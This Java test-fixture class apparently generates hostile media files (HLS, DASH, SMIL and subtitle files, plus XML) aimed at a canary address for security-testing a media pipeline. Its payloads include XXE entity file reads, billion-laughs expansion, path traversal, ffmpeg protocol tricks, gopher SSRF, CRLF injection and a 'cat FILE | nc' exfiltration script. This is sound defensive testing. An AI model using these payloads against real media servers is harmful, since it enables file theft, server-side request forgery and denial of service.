package io.mediarunner.core.hostile;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;

/** Playlists, scripts and XML that name the canary or that grow without end. */
final class HostileText {
  private static final String HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-VERSION:7\n";
  private static final String END = "#EXT-X-ENDLIST\n";
  private final Map<String, byte[]> files = new LinkedHashMap<>();
  private final String url;
  private final String file;

  private HostileText(Canary canary) {
    this.url = canary.url();
    this.file = canary.file().toString();
  }

  /** By name. */
  static Map<String, byte[]> all(Canary canary) {
    HostileText text = new HostileText(canary);
    text.playlists();
    text.scripts();
    text.xml();
    return text.files;
  }

  private void put(String name, String content) {
    put(name, content, StandardCharsets.UTF_8);
  }

  private void put(String name, String content, Charset charset) {
    files.put(
        name,
        content.replaceAll("\\bURL\\b", url).replaceAll("\\bFILE\\b", file).getBytes(charset));
  }

  private static String segment(String address) {
    return HLS + "#EXTINF:10,\n" + address + "\n" + END;
  }

  private void playlists() {
    put("hls-file.m3u8", segment("file://FILE"));
    put("hls-path.m3u8", segment("FILE"));
    put("hls-http.m3u8", segment("URL"));
    put("hls-concat.m3u8", segment("concat:FILE|FILE"));
    put("hls-concat-http.m3u8", segment("concat:URL?x|subfile,,start,0,end,64,,:FILE"));
    put("hls-data.m3u8", segment("data:application/octet-stream;base64,R0lGODlhAQABAAAAACw="));
    put("hls-subfile.m3u8", segment("subfile,,start,0,end,64,,:FILE"));
    put("hls-crypto.m3u8", segment("crypto+file://FILE"));
    put("hls-async-cache.m3u8", segment("async:cache:URL"));
    put("hls-gopher.m3u8", segment("gopher" + "://127.0.0.1/_x"));
    put("hls-up.m3u8", segment("../../../../../../../..FILE"));
    put("hls-key.m3u8", HLS + "#EXT-X-KEY:METHOD=AES-128,URI=\"URL\"\n#EXTINF:10,\nFILE\n" + END);
    put("hls-map.m3u8", HLS + "#EXT-X-MAP:URI=\"FILE\"\n#EXTINF:10,\nURL\n" + END);
    put("hls-master.m3u8", HLS + "#EXT-X-STREAM-INF:BANDWIDTH=1\nURL\n");
    put("hls-endless.m3u8", HLS + "#EXTINF:1,\nURL\n".repeat(20_000));
    put("playlist.pls", "[playlist]\nFile1=URL\nFile2=FILE\nNumberOfEntries=2\n");
    put("playlist.ram", "URL\nfile://FILE\n");
    put("rtsptext.mov", "RTSPtext\nURL\n");
    put("list.ffconcat", "ffconcat version 1.0\nfile 'FILE'\n");
    put("list-http.ffconcat", "ffconcat version 1.0\nfile 'URL'\noption safe 0\n");
  }

  private void scripts() {
    put(
        "talk.sdp",
        """
        v=0
        o=- 0 0 IN IP4 127.0.0.1
        s=x
        c=IN IP4 127.0.0.1
        t=0 0
        m=video 5004 RTP/AVP 96
        a=rtpmap:96 H264/90000
        """);
    put("script.avs", "DirectShowSource(\"FILE\")\nImport(\"FILE\")\n");
    put("script.vpy", "import urllib.request\nurllib.request.urlopen('URL')\n");
    put(
        "vobsub.idx",
        """
        # VobSub index file, v7 (do not modify this line!)
        size: 720x576
        id: en, index: 0
        timestamp: 00:00:01:000, filepos: 000000000
        """);
    put("subtitle.srt", "1\n00:00:00,000 --> 00:00:01,000\n<font face=\"FILE\">x</font>\n");
    put(
        "subtitle.vtt",
        "WEBVTT\n\nSTYLE\n::cue { background: url(URL) }\n\n00:00.0 --> 00:01.0\nx");
    put("subtitle.smi", "<SAMI><BODY><SYNC Start=0><P><IMG SRC=\"URL\"></SYNC></BODY></SAMI>");
    put("subtitle.ass", "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: FILE\n[Events]\n");
    put(
        "filter.ffmeta",
        ";FFMETADATA1\ntitle=FILE\n[CHAPTER]\nSTART=0\nEND=99999999999999999999\n");
    put("movie.lavfi", "movie=FILE[out0]");
    put("page.html", "<!doctype html><html><title>Log in</title><img src=\"URL\"></html>");
    put("script.sh", "#!/bin/sh\ncat FILE | nc 127.0.0.1 1\n");
    put("endless-line.txt", "#EXTM3U" + "a".repeat(4 << 20));
  }

  private static String mediapackage(String head, String body) {
    return "<?xml version=\"1.0\"?>\n"
        + head
        + "<mediapackage xmlns=\"http://mediapackage.opencastproject.org\"><media>"
        + "<track type=\"presenter/source\"><url>"
        + body
        + "</url></track></media></mediapackage>";
  }

  private void xml() {
    String mpd =
        "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><Period><BaseURL>%s</BaseURL>"
            + "<AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\">"
            + "<SegmentTemplate media=\"%s\" initialization=\"%s\" duration=\"1\"/>"
            + "</Representation></AdaptationSet></Period></MPD>";
    put("dash-http.mpd", String.format(Locale.ROOT, mpd, "URL", "URL", "URL"));
    put("dash-file.mpd", String.format(Locale.ROOT, mpd, "file://FILE", "FILE", "FILE"));
    String svg =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">";
    put("entity.svg", "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file://FILE\">]>" + svg + "&x;</svg>");
    put("image-http.svg", svg + "<image xlink:href=\"URL\" width=\"9\" height=\"9\"/></svg>");
    put(
        "image-file.svg",
        svg + "<image xlink:href=\"file://FILE\" width=\"9\" height=\"9\"/></svg>");
    put(
        "movie.xspf",
        "<playlist><trackList><track><location>URL</location></track></trackList></playlist>");
    put("movie.asx", "<asx version=\"3.0\"><entry><ref href=\"URL\"/></entry></asx>");
    StringBuilder laughs = new StringBuilder("<!DOCTYPE m [<!ENTITY l0 \"lol\">");
    for (int i = 1; i < 12; i++) {
      laughs.append("<!ENTITY l" + i + " \"" + ("&l" + (i - 1) + ";").repeat(10) + "\">");
    }
    put("laughs.xml", mediapackage(laughs + "]>", "&l11;"));
    put(
        "quadratic.xml",
        mediapackage(
            "<!DOCTYPE m [<!ENTITY a \"" + "a".repeat(50_000) + "\">]>", "&a;".repeat(50_000)));
    put(
        "entity-file.xml",
        mediapackage("<!DOCTYPE m [<!ENTITY x SYSTEM \"file://FILE\">]>", "&x;"));
    put("entity-http.xml", mediapackage("<!DOCTYPE m [<!ENTITY x SYSTEM \"URL\">]>", "&x;"));
    put("dtd-http.xml", mediapackage("<!DOCTYPE m SYSTEM \"URL\">", "x"));
    put(
        "parameter-entity.xml",
        mediapackage("<!DOCTYPE m [<!ENTITY % x SYSTEM \"URL\"> %x;]>", "x"));
    put(
        "xinclude.xml",
        mediapackage(
            "", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"URL\"/>"));
    put("stylesheet.xml", mediapackage("<?xml-stylesheet type=\"text/xsl\" href=\"URL\"?>", "x"));
    put("deep.xml", mediapackage("", "<a>".repeat(20_000)));
    put("attributes.xml", mediapackage("", "<a " + attributes() + "/>"));
    put("large.xml", mediapackage("", " ".repeat(3 << 20)));
    put("utf16.xml", mediapackage("<!DOCTYPE m SYSTEM \"URL\">", "x"), StandardCharsets.UTF_16);
    put("track-file.xml", mediapackage("", "file://FILE"));
    put("track-path.xml", mediapackage("", "FILE"));
    put("track-canary.xml", mediapackage("", "URL"));
    put("track-newline.xml", mediapackage("", "http://127.0.0.1:1/&#10;Host: x&#13;&#10;"));
    put(
        "windows.smil",
        "<smil xmlns=\"http://www.w3.org/ns/SMIL\"><body>"
            + "<par><video clipBegin=\"0s\" clipEnd=\"1s\"/></par>".repeat(20_000)
            + "</body></smil>");
    put(
        "times.smil",
        "<smil xmlns=\"http://www.w3.org/ns/SMIL\"><body><par><video clipBegin=\""
            + "9".repeat(400)
            + "s\" clipEnd=\"NaN\"/></par></body></smil>");
  }

  private static String attributes() {
    StringBuilder all = new StringBuilder();
    for (int i = 0; i < 50_000; i++) {
      all.append(" a").append(i).append("=\"\"");
    }
    return all.toString();
  }
}
